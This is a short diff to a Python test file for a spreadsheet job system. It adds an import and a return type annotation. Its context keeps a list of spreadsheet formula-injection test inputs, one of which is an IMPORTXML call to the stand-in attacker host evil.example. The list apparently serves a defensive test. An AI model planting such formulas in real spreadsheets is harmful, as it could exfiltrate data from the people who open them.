@@ -22,6 +22,7 @@ from jobs.table import JOBS
 from sheets_schema import ALL_TABS, STATE_TAB
 from sheets_schema.tabs import IMPORTS, PROSPECTS
 from tests.fakes.google import Call, FakeGoogle
+from tests.fakes.sheets_model import Sheet
 from tests.fakes.team import google_store, paste_tabs
 
 FORMULA_STARTS = ["=1+1", "+SUM(A1:A2)", "-2+3", "@cmd", '=IMPORTXML("http://evil.example","//a")']
@@ -32,7 +33,7 @@ def fresh() -> tuple[FakeGoogle, str]:
     return fake, fake.create_spreadsheet()
 
 
-def sheet(fake: FakeGoogle, spreadsheet_id: str, title: str):  # type: ignore[no-untyped-def]
+def sheet(fake: FakeGoogle, spreadsheet_id: str, title: str) -> Sheet:
     return next(s for s in fake.book(spreadsheet_id).sheets if s.title == title)
 
 
